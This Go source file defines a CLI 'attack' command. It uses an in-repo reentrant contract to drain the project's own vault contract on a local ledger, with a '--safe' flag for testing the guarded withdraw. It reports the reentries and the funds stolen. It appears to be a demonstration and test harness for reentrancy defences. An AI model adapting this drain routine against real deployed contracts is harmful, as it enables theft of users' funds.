package main

import (
	"fmt"
	"math/big"

	ethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/pkg/errors"
	"github.com/urfave/cli/v2"

	"github.com/axiomesh/axiom-vault/internal/app"
	"github.com/axiomesh/axiom-vault/internal/executor/system/common"
	"github.com/axiomesh/axiom-vault/internal/executor/system/reentrant"
	"github.com/axiomesh/axiom-vault/internal/executor/system/vault"
	"github.com/axiomesh/axiom-vault/pkg/repo"
)

var reentrantAddr = ethcommon.HexToAddress(common.ReentrantContractAddr)

var attackArgs = struct {
	Safe     bool
	Swallow  bool
	MaxDepth uint64
	Amount   string
	Deposit  string
}{}

var attackCMD = &cli.Command{
	Name:   "attack",
	Usage:  "Drain the vault with the reentrant contract, --safe attacks the guarded withdraw",
	Action: attack,
	Flags: []cli.Flag{
		fromFlag(0),
		&cli.StringFlag{
			Name:     "victim",
			Usage:    "account which deposits into the vault before the attack",
			Value:    repo.DefaultAccounts[1],
			Required: false,
		},
		&cli.BoolFlag{
			Name:        "safe",
			Usage:       "attack the guarded withdraw",
			Destination: &attackArgs.Safe,
			Required:    false,
		},
		&cli.BoolFlag{
			Name:        "swallow",
			Usage:       "ignore the error of a reentrant withdraw instead of reverting the attack",
			Destination: &attackArgs.Swallow,
			Required:    false,
		},
		&cli.Uint64Flag{
			Name:        "depth",
			Usage:       "max reentries of the attack",
			Value:       3,
			Destination: &attackArgs.MaxDepth,
			Required:    false,
		},
		&cli.StringFlag{
			Name:        "amount",
			Usage:       "amount the attacker deposits and withdraws on every reentry",
			Value:       "10",
			Destination: &attackArgs.Amount,
			Required:    false,
		},
		&cli.StringFlag{
			Name:        "deposit",
			Usage:       "amount the victim deposits, 0 skips the deposit",
			Value:       "30",
			Destination: &attackArgs.Deposit,
			Required:    false,
		},
	},
}

func attack(ctx *cli.Context) error {
	attacker, err := parseAddress(ctx.String("from"))
	if err != nil {
		return err
	}
	victim, err := parseAddress(ctx.String("victim"))
	if err != nil {
		return err
	}
	amount, err := parseAmount(attackArgs.Amount)
	if err != nil {
		return err
	}
	deposit, err := parseAmount(attackArgs.Deposit)
	if err != nil {
		return err
	}

	return withApp(ctx, func(axm *app.AxiomVault) error {
		if deposit.Sign() > 0 {
			receipt, err := sendTx(axm, victim, vaultAddr, deposit, vault.DepositMethod)
			if err != nil {
				return err
			}
			if !receipt.IsSuccess() {
				printReceipt(receipt)
				return errors.New("victim deposit failed")
			}
		}

		receipt, err := sendTx(axm, attacker, reentrantAddr, nil, reentrant.ConfigureMethod,
			vaultAddr, amount, attackArgs.MaxDepth, attackArgs.Safe, attackArgs.Swallow)
		if err != nil {
			return err
		}
		if !receipt.IsSuccess() {
			printReceipt(receipt)
			return errors.New("configure reentrant contract failed")
		}

		vaultBefore := axm.Ledger.StateLedger.GetBalance(vaultAddr)
		receipt, err = sendTx(axm, attacker, reentrantAddr, amount, reentrant.AttackMethod)
		if err != nil {
			return err
		}
		printReceipt(receipt)

		reentries, err := callView(axm, reentrantAddr, reentrant.ReentriesMethod)
		if err != nil {
			return err
		}
		lastError, err := callView(axm, reentrantAddr, reentrant.LastErrorMethod)
		if err != nil {
			return err
		}
		vaultAfter := axm.Ledger.StateLedger.GetBalance(vaultAddr)
		fmt.Printf("reentries: %d\n", reentries[0].(uint64))
		if msg := lastError[0].(string); msg != "" {
			fmt.Printf("last reentry error: %s\n", msg)
		}
		fmt.Printf("vault balance: %s -> %s\n", vaultBefore, vaultAfter)
		fmt.Printf("attacker contract balance: %s\n", axm.Ledger.StateLedger.GetBalance(reentrantAddr))
		if stolen := new(big.Int).Sub(vaultBefore, vaultAfter); stolen.Sign() > 0 {
			fmt.Printf("stolen from the vault: %s\n", stolen)
		}
		return nil
	})
}
